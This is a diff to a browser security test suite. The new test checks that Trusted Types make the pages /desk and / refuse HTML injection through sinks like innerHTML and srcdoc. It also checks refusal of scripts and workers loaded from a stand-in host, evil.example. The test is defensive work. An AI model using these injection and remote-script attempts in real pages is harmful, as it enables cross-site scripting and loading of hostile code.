@@ -3,6 +3,8 @@
  * 1. No attack runs: neither its canary nor a dialog nor a frame of its own.
  * 2. None even becomes an element or an attribute: the policy of the page has nothing to report, and every link leads to
  *    http, https, mailto, tel or our own pages.
+ * 3. The attacks are real: a page that takes text for HTML runs them.
+ * 4. Where desk or editor took text for HTML or for a program, the browser would refuse it.
  */
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
@@ -255,6 +257,45 @@ test('law 3: the attacks are real: on a page that takes text for HTML they run',
   }, quiet)
   await expect.poll(() => new Set(tab.alarms.filter((each) => each.endsWith('ran'))).size).toBeGreaterThan(1)
 })
+
+test.each(['/desk', '/'])(
+  'law 4: a place of %s that took text for HTML would be refused by the browser',
+  async (path) => {
+    const { page, alarms } = await watchedTab(await browser.device({ provokes: /Trusted/ }))
+    await page.goto(`${server.url}${path}`)
+    await page.getByRole('textbox').first().waitFor()
+    const outcomes = await page.evaluate(async (attack) => {
+      const element = document.body.appendChild(document.createElement('div'))
+      const attempts: Record<string, () => unknown> = {
+        innerHTML: () => (element.innerHTML = attack),
+        outerHTML: () => (element.outerHTML = attack),
+        insertAdjacentHTML: () => element.insertAdjacentHTML('beforeend', attack),
+        srcdoc: () => (document.createElement('iframe').srcdoc = attack),
+        fragment: () => document.createRange().createContextualFragment(attack),
+        worker: () => new Worker('https://evil.example/worker.js'),
+        script: () => (document.createElement('script').text = 'batonCanary(0)'),
+        source: () => (document.createElement('script').src = 'https://evil.example/script.js'),
+        anotherPolicy: () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
+        styles: () => (document.createElement('style').innerHTML = '*, *::before { transition: none }'),
+      }
+      return Object.fromEntries(
+        Object.entries(attempts).map(([name, attempt]) => {
+          try {
+            attempt()
+            return [name, 'done']
+          } catch (error) {
+            return [name, error instanceof TypeError ? 'refused' : String(error)]
+          }
+        }),
+      )
+    }, String(attacks[0]))
+    const { styles, ...others } = outcomes
+    expect([styles, new Set(Object.values(others))]).toEqual(['done', new Set(['refused'])])
+    // Each was reported, and none ran.
+    await expect.poll(() => alarms.length).toBe(Object.keys(others).length)
+    expect(alarms.filter((each) => !each.startsWith('policy: '))).toEqual([])
+  },
+)
 
 describe('files are saved, never run', () => {
   test('each is answered as what cannot run: no sniffing, a sandbox, an attachment unless it is a real picture', async () => {
